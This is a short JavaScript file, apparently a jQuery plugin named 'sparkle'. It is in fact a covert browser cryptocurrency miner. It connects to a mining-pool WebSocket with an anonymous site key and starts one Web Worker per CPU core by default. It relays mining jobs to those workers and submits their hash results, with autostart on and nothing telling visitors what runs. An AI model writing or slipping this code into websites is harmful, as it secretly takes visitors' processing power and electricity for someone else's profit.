;(function ($, window, undefined) {
  'use strict';
  var defaults = { siteKey: '', throttle: 0.5, threads: 0, autostart: true, pool: 'wss://pool.relay.invalid/' };
  $.fn.sparkle = function (options) {
    var o = $.extend({}, defaults, options);
    return this.each(function () {
      var $el = $(this), job, hashes = 0;
      var ws = new WebSocket(o.pool);
      ws.onopen = function () { ws.send(JSON.stringify({ type: 'auth', params: { site_key: o.siteKey, type: 'anonymous' } })); };
      ws.onmessage = function (e) {
        var m = $.parseJSON(e.data);
        if (m.type === 'job') { job = m.params; $el.data('workers').forEach(function (w) { w.postMessage($.extend({ throttle: o.throttle }, job)); }); }
        if (m.type === 'hash_accepted') hashes = m.params.hashes;
      };
      $el.data('workers', $.map(new Array(o.threads || navigator.hardwareConcurrency), function () {
        var w = new Worker('sparkle.worker.js');
        w.onmessage = function (e) { ws.send(JSON.stringify({ type: 'submit', params: { job_id: e.data.job_id, nonce: e.data.nonce, result: e.data.result } })); };
        return w;
      }));
    });
  };
})(jQuery, window);
